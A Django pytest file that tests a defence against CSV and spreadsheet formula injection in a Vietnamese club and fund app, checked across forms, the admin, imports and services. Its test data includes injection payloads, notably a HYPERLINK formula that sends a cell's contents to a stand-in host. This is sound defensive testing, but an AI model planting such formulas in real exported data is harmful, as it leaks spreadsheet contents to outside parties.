"""Issue 15: club, fund-source and every other free-text field refuse a leading formula character like
member names do, on every way in: forms, the admin, imports (at the preview, naming the row and the
column, nothing written) and services.

One validator on the model fields (places.text.NoFormulaStart) carries the rule. Names and one-line
text refuse = + - @; prose (notes, descriptions, reasons) refuses = + @ and keeps a leading dash,
with which Vietnamese minutes list their points ("- Thu quỹ tháng 3", "-5 kg")."""

from __future__ import annotations

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.db import models
from django.urls import reverse

from clubs.models import ActivityArea, Club
from funds.models import EntryKind, FundEntry, Loan
from funds.services import fund_entry_add, loan_write_off
from life.models import ActivityType
from life.services import activity_create
from members.models import Member
from places.text import NoFormulaStart
from sheets.engine import run_import
from tests.clubs.test_lock_admin import _post_form
from tests.conftest import make_member
from tests.funds.conftest import D, contribute, income, lend
from tests.sheets.builders import write_csv
from tests.snapshots import changed_tables, db_snapshot

pytestmark = pytest.mark.django_db

HOSTILE = ('=HYPERLINK("http://x/?"&A1,"Bấm")', "+1", "@SUM(A1)", "-2+3")
MESSAGE = "bắt đầu bằng dấu %s như một công thức bảng tính: hãy sửa lại."
OUR_APPS = ("places", "clubs", "members", "funds", "life", "reports", "sheets")

# Text fields without the check, and why: none is typed as free text by the people who use the app.
NOT_FREE_TEXT = {
    # The official administrative units, loaded from the vietnam-provinces package (load_places).
    **{(model, field): "official data" for model in ("Province", "Commune", "LegacyProvince", "LegacyDistrict",
       "LegacyCommune") for field in ("name", "division_type", "codename")},  # fmt: skip
    ("Member", "search_key"): "derived from the name, which is checked",
    ("Member", "citizen_id"): "12 digits (citizen_id_validator)",
    ("Member", "phone"): "normalised to 0… or +84… (phone_validator): a phone is no formula",
    ("PeriodLock", "label"): "the period's name, made by the approval (2026-H1)",
    ("Target", "indicator"): "a code from the indicator catalogue (a choice in the form)",
    ("ClubFigures", "key"): "a cache key made by the code",
    ("ClubFigures", "figures"): "the kept figures as JSON text, written by reports.club_figures",
    ("ProvinceFigures", "key"): "a cache key made by the code",
    ("ProvinceFigures", "stamp"): "a digest made by reports.club_figures",
    ("ProvinceFigures", "figures"): "the kept sums as JSON text, written by reports.club_figures",
    ("ClubFacts", "digest"): "a digest made by reports.member_facts",
    ("HouseholdFact", "status"): "copied from the household status rows, a choice (reports.member_facts)",
    ("CycleReport", "period"): "parsed by reports.periods (2026-H1, 2026, 2026-Q3)",
    ("ImportJob", "file_name"): "the uploaded file's name, shown on the job page only",
    ("ImportJob", "stage"): "the progress line written by the import",
    ("AccountEvent", "previous"): "the roles held before a change, written by the code (clubs.accounts)",
    ("FundMonth", "source"): "copied from the entries' source, a choice (funds.totals keeps the month rows)",
}


def _text_fields():
    for app in OUR_APPS:
        for model in apps.get_app_config(app).get_models():
            if model.__name__.startswith("Historical"):
                continue
            for field in model._meta.concrete_fields:
                if isinstance(field, models.CharField | models.TextField) and not field.choices:
                    yield model, field


def _guard(field) -> NoFormulaStart | None:
    return next((v for v in field.validators if isinstance(v, NoFormulaStart)), None)


GUARDED = [(model, field) for model, field in _text_fields() if _guard(field) is not None]


def test_every_free_text_field_of_every_model_refuses_a_formula_start():
    unguarded = {
        (model.__name__, field.name)
        for model, field in _text_fields()
        if _guard(field) is None and (model.__name__, field.name) not in NOT_FREE_TEXT
    }
    assert unguarded == set()
    assert len(GUARDED) >= 30  # clubs, members, funds, life, reports


@pytest.mark.parametrize(("model", "field"), GUARDED, ids=lambda x: getattr(x, "__name__", getattr(x, "name", "")))
def test_each_field_gives_the_member_name_message(model, field):
    prose = _guard(field).prose
    for value in HOSTILE:
        if prose and value.startswith("-"):
            field.run_validators(value)  # a dash list in a note
            continue
        with pytest.raises(ValidationError) as refused:
            field.run_validators(value)
        (message,) = [error.message for error in refused.value.error_list if error.code == "formula"]
        assert message.endswith(MESSAGE % value[0]) and f"“{value}”" in message, message
    field.run_validators("Bản Nà Cóc")
    field.run_validators("")
    with pytest.raises(ValidationError):
        field.run_validators("  =1+1")  # leading spacing is looked through


def test_names_refuse_a_dash_and_notes_keep_it():
    name, note = Member._meta.get_field("village"), FundEntry._meta.get_field("note")
    with pytest.raises(ValidationError, match="Thôn/tổ dân phố “-Bản Mè” bắt đầu bằng dấu -"):
        name.run_validators("-Bản Mè")
    for text in ("- Thu quỹ tháng 3", "-5 kg so với quý trước"):
        note.run_validators(text)
    with pytest.raises(ValidationError, match="Ghi chú “@SUM"):
        note.run_validators("@SUM(A1)")


# ------------------------------------------------------------------------------------ the ways in


def _form_data(client, url, **changes) -> dict:
    form = client.get(url).context["form"]
    return {key: value for key, value in form.initial.items() if value is not None} | changes


def test_the_club_form_refuses_a_formula_village(client_for, admin_user, club):
    client, url = client_for(admin_user), reverse("clubs:club-edit", args=[club.pk])
    data = _form_data(client, url, villages="+1", commune=club.commune_id)
    before = db_snapshot()
    response = client.post(url, data)
    assert response.status_code == 200
    assert "Thôn/tổ dân phố “+1” " + MESSAGE % "+" in response.content.decode()
    assert changed_tables(before, db_snapshot()) == []


def test_the_member_form_refuses_a_formula_village(client_for, staff, club):
    member = make_member(club, full_name="Lò Thị Lan")
    client, url = client_for(staff), reverse("members:member-edit", args=[member.pk])
    data = _form_data(client, url, village="@SUM(A1)")
    before = db_snapshot()
    response = client.post(url, data)
    assert response.status_code == 200
    assert response.context["form"].errors["village"] == [f"Thôn/tổ dân phố “@SUM(A1)” {MESSAGE % '@'}"]
    assert changed_tables(before, db_snapshot()) == []


def test_the_admin_refuses_a_formula_decision_number(client_for, admin_user, club):
    client = client_for(admin_user)
    client.get("/admin/")
    before = db_snapshot()
    response = _post_form(client, reverse("admin:clubs_club_change", args=[club.pk]), decision_number="-2+3")
    assert response.status_code == 200
    assert "Số quyết định “-2+3” " + MESSAGE % "-" in response.content.decode()
    assert changed_tables(before, db_snapshot()) == []


def test_the_fund_entry_form_shows_the_services_refusal_on_the_note(client_for, staff, club):
    contribute(income(club), 1_000_000, D(2024, 3, 1))
    client = client_for(staff)
    client.get(reverse("funds:entry-add", args=[club.pk]))
    before = db_snapshot()
    response = client.post(
        reverse("funds:entry-add", args=[club.pk]),
        {"fund": income(club).pk, "kind": EntryKind.CONTRIBUTION, "entry_date": "05/03/2024", "amount": "100.000",
         "source": "state", "note": '=HYPERLINK("http://x/?"&A1,"Bấm")'},
    )  # fmt: skip
    assert response.status_code == 200
    assert response.context["form"].errors["note"] == [f"Ghi chú “{HOSTILE[0]}” {MESSAGE % '='}"]
    assert changed_tables(before, db_snapshot()) == []


def test_the_services_refuse_it_and_write_nothing(club, admin_user):
    contribute(income(club), 10_000_000, D(2024, 3, 1))
    hoa = make_member(club, full_name="Lò Thị Hoa")
    loan = lend(income(club), hoa, 1_000_000, D(2024, 3, 2))
    before = db_snapshot()
    with pytest.raises(ValidationError, match="Ghi chú “@SUM"):
        fund_entry_add(fund=income(club), kind=EntryKind.CONTRIBUTION, amount=1000, entry_date=D(2024, 3, 5),
                       source="state", note="@SUM(A1)", recorded_by=admin_user)  # fmt: skip
    with pytest.raises(ValidationError, match="Số chứng từ “-2"):
        fund_entry_add(fund=income(club), kind=EntryKind.CONTRIBUTION, amount=1000, entry_date=D(2024, 3, 5),
                       source="state", document_number="-2+3", recorded_by=admin_user)  # fmt: skip
    with pytest.raises(ValidationError, match="Lý do xóa nợ “=1"):
        loan_write_off(loan=loan, written_off_on=D(2024, 4, 1), reason="=1+1", approved_by="Ban Chủ nhiệm",
                       recorded_by=admin_user)  # fmt: skip
    with pytest.raises(ValidationError, match="Người phê duyệt xóa nợ “\\+1"):
        loan_write_off(loan=loan, written_off_on=D(2024, 4, 1), reason="Mất khả năng trả", approved_by="+1",
                       recorded_by=admin_user)  # fmt: skip
    with pytest.raises(ValidationError, match="Tên hoạt động “=1"):
        activity_create(club=club, kind=ActivityType.MONTHLY_MEETING, area=ActivityArea.SELF_HELP, held_on=D(2024, 3, 5),
                        title="=1+1", recorded_by=admin_user)  # fmt: skip
    assert changed_tables(before, db_snapshot()) == []
    assert Loan.objects.get(pk=loan.pk).written_off_on is None


@pytest.mark.parametrize(
    ("kind", "rows", "column", "text"),
    [
        ("clubs", [["Mã CLB", "Tên CLB", "Tỉnh", "Xã/Phường", "Thôn/Tổ dân phố"],
                   ["LCH-TU-09", "CLB bản Mới", "Lai Châu", "Tân Uyên", "+1"]], "Thôn/Tổ dân phố", "+1"),
        ("clubs", [["Mã CLB", "Tên CLB", "Tỉnh", "Xã/Phường", "Số quyết định"],
                   ["LCH-TU-09", "CLB bản Mới", "Lai Châu", "Tân Uyên", "-2+3"]], "Số quyết định", "-2+3"),
        ("members", [["Họ và tên", "Năm sinh", "Giới tính", "Thôn/Tổ dân phố"],
                     ["Lò Thị Lan", 1950, "Nữ", "@SUM(A1)"]], "Thôn/Tổ dân phố", "@SUM(A1)"),
        ("members", [["Họ và tên", "Năm sinh", "Giới tính"], ["-2+3", 1950, "Nữ"]], "Họ và tên", "-2+3"),
        ("members", [["Họ và tên", "Năm sinh", "Giới tính"], ["\u200b=1+1", 1950, "Nữ"]], "Họ và tên", "=1+1"),
        ("contributions", [["Mã CLB", "Quỹ", "Ngày", "Số tiền", "Nguồn", "Ghi chú"],
                           ["LCH-TU-01", "Quỹ tăng thu nhập", "05/03/2024", "100.000", "Thành viên", HOSTILE[0]]],
         "Ghi chú", HOSTILE[0]),
        ("loans", [["Mã CLB", "Họ và tên", "Năm sinh", "Ngày vay", "Số tiền vay", "Thời hạn", "Mục đích"],
                   ["LCH-TU-01", "Lò Thị Lan", 1950, "05/03/2024", "1.000.000", 12, "@SUM(A1)"]],
         "Mục đích", "@SUM(A1)"),
    ],
    ids=["club-villages", "club-decision", "member-village", "member-name", "member-name-behind-zero-width",
         "contribution-note", "loan-purpose"],
)  # fmt: skip
def test_an_import_refuses_it_at_the_preview_naming_row_and_column(club, tmp_path, kind, rows, column, text):
    make_member(club, full_name="Lò Thị Lan", birth_year=1950)
    contribute(income(club), 10_000_000, D(2024, 3, 1))
    path = write_csv(tmp_path / "tep.csv", rows)
    preview = run_import(kind, path, club=club if kind == "members" else None)
    assert not preview.ok
    messages = [(issue.row, issue.column, issue.message) for issue in preview.errors]
    letter = "ABCDEFGH"[rows[0].index(column)]
    assert (2, f"{letter} ({column})", f"{column} “{text}” {MESSAGE % text[0]}") in messages, messages
    before = db_snapshot()
    assert not run_import(kind, path, club=club if kind == "members" else None, commit=True).committed
    assert changed_tables(before, db_snapshot()) == []


def test_a_dash_list_in_a_contribution_note_is_imported(club, tmp_path):
    rows = [["Mã CLB", "Quỹ", "Ngày", "Số tiền", "Nguồn", "Ghi chú"],
            ["LCH-TU-01", "Quỹ tăng thu nhập", "05/03/2024", "100.000", "Thành viên", "- Góp vốn quý I"]]  # fmt: skip
    report = run_import("contributions", write_csv(tmp_path / "gop.csv", rows), commit=True)
    assert report.committed, report.errors
    assert FundEntry.objects.get(fund__club=club).note == "- Góp vốn quý I"


def test_formula_starts_finds_what_the_check_would_refuse(club):
    """The demo's and the generator's tests call it on all they make (tests/devdata, tests/scale)."""
    assert formula_starts() == []
    Club.objects.filter(pk=club.pk).update(villages="=1")
    assert formula_starts() == [("Club", "villages", 1)]


def formula_starts() -> list[tuple[str, str, int]]:
    """(model, field, rows) of every stored value that its field's check would refuse now."""
    found = []
    for model, field in GUARDED:
        signs = ("=", "+", "@") if _guard(field).prose else ("=", "+", "-", "@")
        query = models.Q()
        for sign in signs:
            query |= models.Q(**{f"{field.name}__startswith": sign})
        if count := model._default_manager.filter(query).count():
            found.append((model.__name__, field.name, count))
    return found


def test_the_report_signer_is_checked_on_the_page_and_in_the_command(client_for, lai_chau_officer, tmp_path):
    response = client_for(lai_chau_officer).get(reverse("reports:province", args=[12]), {"signer": "=1+1"})
    assert "Họ tên người ký “=1+1” " + MESSAGE % "=" in response.content.decode()
    output = tmp_path / "bao-cao.pdf"
    with pytest.raises(CommandError, match="Họ tên người ký “@SUM\\(A1\\)” bắt đầu bằng dấu @"):
        call_command("report", "--province", "12", "--format", "pdf", "--output", str(output), "--signer", "@SUM(A1)")
    assert not output.exists()
